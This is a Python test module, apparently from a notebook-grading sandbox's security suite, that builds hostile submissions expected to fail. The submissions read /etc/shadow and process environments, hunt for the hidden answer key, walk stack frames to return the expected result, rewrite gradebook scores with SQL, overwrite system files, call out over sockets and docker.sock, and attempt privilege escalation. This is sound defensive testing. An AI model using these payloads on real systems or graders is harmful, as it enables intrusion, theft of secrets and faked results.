"""Code that reads, writes or talks where it has no business. Its answers are right.

Whatever it finds it prints after the word `LEAKED`; nothing may be printed so.
"""

from __future__ import annotations

from textwrap import indent

from tests.grading.hostile.crashes import STEP_ONLY, inside
from tests.grading.hostile.files import RIGHT
from tests.grading.hostile.kinds import FOUND, CodeKind
from tests.grading.hostile.markup import VECTORS
from tests.grading.hostile.master import SECRET

# In two parts, so that code which looks for it does not find itself.
PARTS = repr(str(SECRET)[:3]) + " + " + repr(str(SECRET)[3:])


def trying(code: str, errors: str = "OSError") -> str:
    return f"try:\n{indent(code.strip(), '    ')}\nexcept {errors}:\n    pass"


def reading(path: str) -> str:
    return trying(f"print('{FOUND}', open({path}, 'rb').read(200))")


SEARCH_FILES = f"""
import os, time
secret, end = ({PARTS}).encode(), time.monotonic() + 1.5
for top in ("/tmp", "/opt", "/home", "/root", "/srv", "/var", "/mnt", "/work", "/"):
    for folder, folders, files in os.walk(top):
        folders[:] = [f for f in folders if f not in ("usr", "proc", "sys", "dev", "lib", "lib64")]
        for name in files:
            if time.monotonic() > end or not name.endswith((".ipynb", ".db", ".toml", ".json")):
                continue
            try:
                if secret in open(os.path.join(folder, name), "rb").read(2**20):
                    print("{FOUND}", folder, name)
            except OSError:
                pass
"""
SEARCH_MEMORY = f"""
import gc
number = float({PARTS})
def seen():
    for thing in gc.get_objects():
        if type(thing).__name__ in ("Assignment", "Reference", "Recorder", "Question", "Verdict"):
            return thing
        if isinstance(thing, dict) and "number" not in thing:
            if any(type(value) is float and value == number for value in thing.values()):
                return thing
if seen():
    print("{FOUND}", seen())
"""
SEARCH_PROCESSES = """
import glob
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        text = open(path, "rb").read()
    except OSError:
        continue
    if b"@TOKEN@" in text or b"nbgrader" in text or b"pytest" in text:
        print("LEAKED", path, text)
"""
ENVIRONMENT = """
import os
if any("@TOKEN@" in value for value in os.environ.values()):
    print("LEAKED", os.environ)
"""
FRAMES = """
import sys
def mean_square(values):
    frame = sys._getframe()
    while frame is not None:
        for scope in (frame.f_locals, frame.f_globals):
            if "reference" in scope:
                return scope["reference"].mean_square(values)
            if "expected" in scope:
                return scope["expected"]
        frame = frame.f_back
    return -1.0
"""
TELLING_ERROR = """
def mean_square(values):
    raise type("Saw_" + str(int(values[0])), (ValueError,), {})(f"{values!r} {list(values)}")
"""
PRINTING = """
import os, sys
def mean_square(values):
    print(values, list(values))
    print(values, file=sys.stderr)
    os.write(1, repr(list(values)).encode())
    os.write(2, repr(list(values)).encode())
    open("/tmp/seen", "a").write(repr(list(values)))
    return float(np.mean(np.square(values)))
"""
WRITE_EVERYWHERE = """
import os, shutil, sqlite3
import course_lib, numpy
for path in (
    "@CLASS@/gradebook.db",
    "@CLASS@/submitted/honest/mean-and-step/mean-and-step.ipynb",
    "@CLASS@/feedback/honest.html",
    course_lib.__file__,
    numpy.__file__,
    "/usr/bin/python3",
    "/etc/passwd",
    os.path.expanduser("~root/downhill-was-here"),
    "/dev/shm/downhill-was-here",
    "/var/tmp/downhill-was-here",
):
    for mode in ("ab", "wb"):
        try:
            with open(path, mode) as file:
                file.write(b"@TOKEN@ overwritten")
        except OSError:
            pass
    for attempt in (os.remove, os.rmdir, lambda p: os.chmod(p, 0o777)):
        try:
            attempt(path)
        except OSError:
            pass
shutil.rmtree("@CLASS@", ignore_errors=True)
"""
SQL = """
import sqlite3
try:
    book = sqlite3.connect("@CLASS@/gradebook.db")
    book.execute("update grade set manual_score = 396")
    book.commit()
    print("LEAKED the gradebook")
except sqlite3.Error:
    pass
"""
NOTES = """
import os
folders = {"/tmp", "/var/tmp", "/dev/shm", ".", os.path.expanduser("~")}
paths = [os.path.join(folder, "note-to-the-next") for folder in folders]
if any(map(os.path.exists, paths)):
    print("LEAKED a note")
for path in paths:
    try:
        open(path, "w").write("the second answer is 4")
    except OSError:
        pass
"""
TALK = """
import socket
for family, kind, address in (
    (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", @PORT@)),
    (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", @PORT@)),
    (socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.1", 80)),
    (socket.AF_INET6, socket.SOCK_STREAM, ("::1", @PORT@)),
    (socket.AF_UNIX, socket.SOCK_STREAM, "\\0downhill-@TOKEN@"),
    (socket.AF_UNIX, socket.SOCK_STREAM, "/var/run/docker.sock"),
):
    try:
        with socket.socket(family, kind) as connection:
            connection.settimeout(0.3)
            connection.connect(address)
            connection.send(b"the answers, please")
            connection.recv(10)
            print("LEAKED", address)
    except OSError:
        pass
"""
LOOK_UP = """
import socket, urllib.request
try:
    print("LEAKED", socket.getaddrinfo("example.org", 80))
except OSError:
    pass
try:
    print("LEAKED", urllib.request.urlopen("http://127.0.0.1:@PORT@/", timeout=0.3).read())
except OSError:
    pass
"""
LISTEN = """
import socket
try:
    server = socket.socket()
    server.bind(("0.0.0.0", 0))
    server.listen()
except OSError:
    pass
"""
PRIVILEGES = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for attempt in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.chroot("/tmp")):
    try:
        attempt()
        print("LEAKED: more rights")
    except OSError:
        pass
if os.getuid() == 0 or os.geteuid() == 0:
    print("LEAKED: root")
if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
    print("LEAKED: a mount")
if libc.unshare(0x10000000) == 0:
    print("LEAKED: a namespace of users")
if libc.ptrace(16, 1, 0, 0) == 0:
    print("LEAKED: another process")
"""
PROGRAMS = """
import os, subprocess
try:
    print("LEAKED", subprocess.run(["/usr/bin/id"], capture_output=True).stdout)
except OSError:
    pass
try:
    os.system("touch /tmp/x")
    os.popen("id").read()
except OSError:
    pass
"""
# Shown as output, value, error and source on the page that a student gets back.
MARKUP = f"""
vectors = {VECTORS!r}
for vector in vectors:
    print(vector)
class Shown:
    __repr__ = _repr_html_ = lambda self: "<table><tr><td>" + "".join(vectors)
display(Shown())
Shown()
"""
MARKUP_IN_ERROR = f"""
def mean_square(values):
    raise ValueError("".join({VECTORS[:9]!r}))
raise ValueError("".join({VECTORS[:9]!r}))
"""

KINDS = [
    CodeKind("looks for hidden checks in files", first=SEARCH_FILES),
    CodeKind("looks for hidden checks in memory", first=SEARCH_MEMORY),
    CodeKind("looks at other processes", first=SEARCH_PROCESSES),
    CodeKind("looks at the environment", first=ENVIRONMENT),
    CodeKind(
        "reads the gradebook, neighbours and accounts",
        first="\n".join(
            reading(path)
            for path in (
                "'@CLASS@/gradebook.db'",
                "'@CLASS@/submitted/honest/mean-and-step/mean-and-step.ipynb'",
                "'/proc/@PID@/root@CLASS@/gradebook.db'",
                "'/proc/1/root/etc/shadow'",
                "'/etc/shadow'",
                "'/etc/passwd'",
                "'/root/.bashrc'",
                "'/proc/1/environ'",
                "'/proc/kcore'",
                "'/dev/sda'",
                "'/dev/mem'",
            )
        ),
    ),
    CodeKind(
        "lists the class and the homes",
        first="import os\n"
        + "\n".join(
            trying(f"print('{FOUND}' if os.listdir('{path}') else '')")
            for path in ("@CLASS@", "/home", "/srv", "/usr/local/share")
        ),
    ),
    CodeKind("walks up the frames for the answer", mean_square=FRAMES, scores=STEP_ONLY),
    CodeKind("tells hidden numbers in its errors", mean_square=TELLING_ERROR, scores=STEP_ONLY),
    CodeKind("prints what it is called with", mean_square=PRINTING),
    CodeKind("leaves a note for the next submission", first=NOTES),
    CodeKind("reads a note of the last submission", first=NOTES),
    CodeKind("overwrites all it can think of", first=WRITE_EVERYWHERE),
    CodeKind("writes points into the gradebook", first=SQL),
    CodeKind("calls out", first=TALK),
    CodeKind("asks for names, and fetches a page", first=LOOK_UP),
    CodeKind("opens a port", first=LISTEN),
    CodeKind("asks for more rights", first=PRIVILEGES),
    CodeKind("starts programs", first=PROGRAMS),
    CodeKind(
        "talks while it is judged",
        mean_square="import socket\n"
        + inside(trying("socket.create_connection(('127.0.0.1', @PORT@), 0.2)")),
    ),
    CodeKind("markup in its outputs", mean_square=f"{RIGHT['mean-square']}\n{MARKUP}"),
    CodeKind("markup in its errors", mean_square=MARKUP_IN_ERROR, scores=STEP_ONLY, status="error"),
    CodeKind(
        "reads its own data file",
        mean_square=inside("if open('data/own.txt').read() != 'own':\n    return None"),
        files={"data/own.txt": b"own"},
    ),
]
